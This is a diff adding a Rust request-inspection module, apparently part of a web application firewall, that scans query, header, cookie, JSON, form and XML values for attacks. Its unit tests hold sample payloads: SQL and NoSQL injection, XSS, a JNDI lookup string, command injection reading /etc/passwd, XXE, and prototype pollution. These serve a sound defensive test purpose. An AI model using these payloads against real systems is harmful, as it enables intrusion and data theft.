@@ -1,0 +1,341 @@
+//! Inspect, negative model: every value a client controls — path segments, query keys and values, selected
+//! headers, cookies, and the string leaves and keys of JSON and form bodies — goes through the detection engine
+//! (`crates/detect`) with its place and name, so a JSON number field is not read as SQL and a search box may
+//! hold prose. Bodies are buffered only on routes where inspection is on, only for the content types it
+//! understands, and only up to a cap.
+
+use crate::pipeline::{Code, Verdict};
+use bytes::Bytes;
+use detect::{Context, Detector, Place};
+use http::header::{HeaderName, CONTENT_TYPE, COOKIE};
+use http::request::Parts;
+use std::collections::HashSet;
+use std::sync::Arc;
+
+/// Where in the request a value sat, as exclusions name it (`query:q`, `json:bio`, `header:referer`).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Field {
+    Path,
+    Query,
+    Header,
+    Cookie,
+    Json,
+    Form,
+    Body,
+}
+
+impl Field {
+    pub fn parse(s: &str) -> Option<Field> {
+        Some(match s {
+            "path" => Field::Path,
+            "query" => Field::Query,
+            "header" => Field::Header,
+            "cookie" => Field::Cookie,
+            "json" => Field::Json,
+            "form" => Field::Form,
+            "body" => Field::Body,
+            _ => return None,
+        })
+    }
+
+    fn as_str(self) -> &'static str {
+        match self {
+            Field::Path => "path",
+            Field::Query => "query",
+            Field::Header => "header",
+            Field::Cookie => "cookie",
+            Field::Json => "json",
+            Field::Form => "form",
+            Field::Body => "body",
+        }
+    }
+}
+
+/// How a body is read for inspection, from its `Content-Type`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum BodyKind {
+    Json,
+    Form,
+    Xml,
+    /// Not inspected (binary, multipart, unknown): streamed through untouched.
+    Opaque,
+}
+
+impl BodyKind {
+    pub fn of(parts: &Parts) -> BodyKind {
+        let Some(ct) = parts.headers.get(CONTENT_TYPE).and_then(|v| v.to_str().ok()) else {
+            return BodyKind::Opaque;
+        };
+        let mime = ct.split(';').next().unwrap_or("").trim().to_ascii_lowercase();
+        if mime == "application/json" || mime.ends_with("+json") {
+            BodyKind::Json
+        } else if mime == "application/x-www-form-urlencoded" {
+            BodyKind::Form
+        } else if mime == "application/xml" || mime == "text/xml" || mime.ends_with("+xml") {
+            BodyKind::Xml
+        } else {
+            BodyKind::Opaque
+        }
+    }
+}
+
+/// A route's compiled inspection policy.
+#[derive(Debug)]
+pub struct InspectPolicy {
+    pub detector: Detector,
+    /// Headers whose values are scanned (lower-case names); `cookie` is split into name/value pairs.
+    pub headers: Vec<HeaderName>,
+    /// Fields never scanned, e.g. a free-text field that legitimately holds code.
+    pub exclude: HashSet<(Field, String)>,
+    /// Largest body buffered for inspection; a bigger JSON, form or XML body is refused (413).
+    pub max_body_bytes: u64,
+    /// Deepest JSON nesting accepted.
+    pub max_json_depth: usize,
+}
+
+/// Percent-decodes a query or form component once (`+` is a space), as the application will see it.
+pub fn form_decode(s: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while i < s.len() {
+        match s[i] {
+            b'+' => out.push(b' '),
+            b'%' if i + 2 < s.len() => match (hex(s[i + 1]), hex(s[i + 2])) {
+                (Some(h), Some(l)) => {
+                    out.push(h * 16 + l);
+                    i += 3;
+                    continue;
+                }
+                _ => out.push(b'%'),
+            },
+            b => out.push(b),
+        }
+        i += 1;
+    }
+    out
+}
+
+fn hex(b: u8) -> Option<u8> {
+    match b {
+        b'0'..=b'9' => Some(b - b'0'),
+        b'a'..=b'f' => Some(b - b'a' + 10),
+        b'A'..=b'F' => Some(b - b'A' + 10),
+        _ => None,
+    }
+}
+
+fn finding_verdict(f: detect::Finding, field: Field, name: &str) -> Verdict {
+    let name: String = name.chars().take(64).collect();
+    Verdict::reject(Code::Inspect(f.family), format!("{} `{}`: {}", field.as_str(), name, f.evidence))
+}
+
+impl InspectPolicy {
+    fn excluded(&self, field: Field, name: &str) -> bool {
+        !self.exclude.is_empty() && self.exclude.contains(&(field, name.to_string()))
+    }
+
+    fn scan(&self, value: &[u8], place: Place, field: Field, name: &str) -> Option<Verdict> {
+        if value.is_empty() || self.excluded(field, name) {
+            return None;
+        }
+        let ctx = if name.is_empty() { Context::new(place) } else { Context::with_key(place, name) };
+        self.detector.scan(value, ctx).map(|f| finding_verdict(f, field, name))
+    }
+
+    /// Scans `a=b&c=d` pairs (query strings and form bodies).
+    fn scan_pairs(&self, raw: &[u8], key_place: Place, value_place: Place, field: Field) -> Option<Verdict> {
+        for pair in raw.split(|&b| b == b'&') {
+            if pair.is_empty() {
+                continue;
+            }
+            let (k, v) = match pair.iter().position(|&b| b == b'=') {
+                Some(i) => (&pair[..i], &pair[i + 1..]),
+                None => (pair, &pair[..0]),
+            };
+            let key = form_decode(k);
+            let key_text = String::from_utf8_lossy(&key);
+            if let Some(v) = self.scan(&key, key_place, field, "") {
+                return Some(v);
+            }
+            if let Some(v) = self.scan(&form_decode(v), value_place, field, &key_text) {
+                return Some(v);
+            }
+        }
+        None
+    }
+
+    /// Everything but the body: path segments, query, selected headers, cookies.
+    pub fn scan_head(&self, parts: &Parts, path: &str) -> Verdict {
+        for seg in path.split('/') {
+            if let Some(v) = self.scan(seg.as_bytes(), Place::Path, Field::Path, "") {
+                return v;
+            }
+        }
+        if let Some(q) = parts.uri.query() {
+            if let Some(v) = self.scan_pairs(q.as_bytes(), Place::QueryKey, Place::Query, Field::Query) {
+                return v;
+            }
+        }
+        for name in &self.headers {
+            for value in parts.headers.get_all(name) {
+                if *name == COOKIE {
+                    for c in value.as_bytes().split(|&b| b == b';') {
+                        let c = c.trim_ascii();
+                        let (k, v) = match c.iter().position(|&b| b == b'=') {
+                            Some(i) => (&c[..i], &c[i + 1..]),
+                            None => (&c[..0], c),
+                        };
+                        let k = String::from_utf8_lossy(k);
+                        if let Some(v) = self.scan(v, Place::Cookie, Field::Cookie, &k) {
+                            return v;
+                        }
+                    }
+                } else if let Some(v) = self.scan(value.as_bytes(), Place::Header, Field::Header, name.as_str()) {
+                    return v;
+                }
+            }
+        }
+        Verdict::Continue
+    }
+
+    /// The buffered body, read according to its kind.
+    pub fn scan_body(&self, kind: BodyKind, body: &Bytes) -> Verdict {
+        match kind {
+            BodyKind::Opaque => Verdict::Continue,
+            BodyKind::Form => self.scan_pairs(body, Place::Form, Place::Form, Field::Form).unwrap_or(Verdict::Continue),
+            BodyKind::Xml => self.scan(body, Place::Body, Field::Body, "").unwrap_or(Verdict::Continue),
+            BodyKind::Json => {
+                if body.iter().all(u8::is_ascii_whitespace) {
+                    return Verdict::Continue;
+                }
+                let value: serde_json::Value = match serde_json::from_slice(body) {
+                    Ok(v) => v,
+                    Err(e) => {
+                        return Verdict::reject(Code::InspectMalformedBody, format!("JSON body does not parse: {e}"))
+                    }
+                };
+                self.scan_json(&value, "", 0).unwrap_or(Verdict::Continue)
+            }
+        }
+    }
+
+    fn scan_json(&self, v: &serde_json::Value, key: &str, depth: usize) -> Option<Verdict> {
+        if depth > self.max_json_depth {
+            return Some(Verdict::reject(
+                Code::InspectMalformedBody,
+                format!("JSON nested deeper than {}", self.max_json_depth),
+            ));
+        }
+        match v {
+            serde_json::Value::String(s) => self.scan(s.as_bytes(), Place::JsonString, Field::Json, key),
+            serde_json::Value::Array(items) => items.iter().find_map(|i| self.scan_json(i, key, depth + 1)),
+            serde_json::Value::Object(map) => map.iter().find_map(|(k, val)| {
+                self.scan(k.as_bytes(), Place::JsonKey, Field::Json, "").or_else(|| self.scan_json(val, k, depth + 1))
+            }),
+            _ => None,
+        }
+    }
+}
+
+/// A route's inspection: off, or a shared compiled policy.
+pub type Inspection = Option<Arc<InspectPolicy>>;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy() -> InspectPolicy {
+        InspectPolicy {
+            detector: Detector::new(detect::Level::L1),
+            headers: vec![http::header::USER_AGENT, COOKIE],
+            exclude: [(Field::Query, "snippet".to_string())].into_iter().collect(),
+            max_body_bytes: 1 << 20,
+            max_json_depth: 32,
+        }
+    }
+
+    fn parts(uri: &str, headers: &[(&str, &str)]) -> Parts {
+        let mut b = http::Request::get(uri);
+        for (k, v) in headers {
+            b = b.header(*k, *v);
+        }
+        b.body(()).unwrap().into_parts().0
+    }
+
+    fn code(v: Verdict) -> Option<&'static str> {
+        match v {
+            Verdict::Continue => None,
+            Verdict::Reject(r) => Some(r.code.as_str()),
+        }
+    }
+
+    #[test]
+    fn query_values_are_decoded_once_and_scanned_with_their_name() {
+        let p = policy();
+        assert_eq!(code(p.scan_head(&parts("/s?id=1%27%20OR%20%271%27%3D%271", &[]), "/s")), Some("inspect.sqli"));
+        assert_eq!(code(p.scan_head(&parts("/s?q=union+was+a+great+select", &[]), "/s")), None);
+        assert_eq!(code(p.scan_head(&parts("/s?name=Se%C3%A1n+O%27Brien", &[]), "/s")), None);
+        // An excluded field may hold anything.
+        assert_eq!(code(p.scan_head(&parts("/s?snippet=%3Cscript%3Ealert(1)%3C/script%3E", &[]), "/s")), None);
+        assert_eq!(
+            code(p.scan_head(&parts("/s?other=%3Cscript%3Ealert(1)%3C/script%3E", &[]), "/s")),
+            Some("inspect.xss")
+        );
+        assert_eq!(code(p.scan_head(&parts("/s?a[$ne]=1", &[]), "/s")), Some("inspect.nosqli"));
+    }
+
+    #[test]
+    fn headers_and_cookies() {
+        let p = policy();
+        let v = p.scan_head(&parts("/", &[("user-agent", "${jndi:ldap://x.example/a}")]), "/");
+        assert_eq!(code(v), Some("inspect.jndi"));
+        let v = p.scan_head(&parts("/", &[("cookie", "theme=dark; sid=1' or '1'='1")]), "/");
+        assert_eq!(code(v), Some("inspect.sqli"));
+        let v =
+            p.scan_head(&parts("/", &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("cookie", "a=b; c=d")]), "/");
+        assert_eq!(code(v), None);
+    }
+
+    #[test]
+    fn json_strings_and_keys_but_not_numbers() {
+        let p = policy();
+        let body = |s: &str| Bytes::from(s.to_string());
+        assert_eq!(
+            code(p.scan_body(BodyKind::Json, &body(r#"{"name":"D'Angelo","age":42,"tags":["drop","union"]}"#))),
+            None
+        );
+        assert_eq!(
+            code(p.scan_body(BodyKind::Json, &body(r#"{"bio":"<img src=x onerror=alert(1)>"}"#))),
+            Some("inspect.xss")
+        );
+        assert_eq!(
+            code(p.scan_body(BodyKind::Json, &body(r#"{"user":{"$where":"sleep(5000)"}}"#))),
+            Some("inspect.nosqli")
+        );
+        assert_eq!(
+            code(p.scan_body(BodyKind::Json, &body(r#"{"__proto__":{"admin":true}}"#))),
+            Some("inspect.proto_pollution")
+        );
+        assert_eq!(code(p.scan_body(BodyKind::Json, &body("{not json"))), Some("inspect.malformed_body"));
+        let deep = format!("{}1{}", "[".repeat(40), "]".repeat(40));
+        assert_eq!(code(p.scan_body(BodyKind::Json, &body(&deep))), Some("inspect.malformed_body"));
+    }
+
+    #[test]
+    fn forms_and_xml() {
+        let p = policy();
+        let v = p.scan_body(BodyKind::Form, &Bytes::from_static(b"host=example.com%3B+cat+%2Fetc%2Fpasswd"));
+        assert_eq!(code(v), Some("inspect.cmdi"));
+        let xxe = Bytes::from_static(
+            b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+        );
+        assert_eq!(code(p.scan_body(BodyKind::Xml, &xxe)), Some("inspect.xxe"));
+    }
+
+    #[test]
+    fn form_decoding_is_single_and_lenient() {
+        assert_eq!(form_decode(b"a+b%20c%2"), b"a b c%2");
+        assert_eq!(form_decode(b"%252e"), b"%2e");
+        assert_eq!(form_decode(b"%"), b"%");
+    }
+}
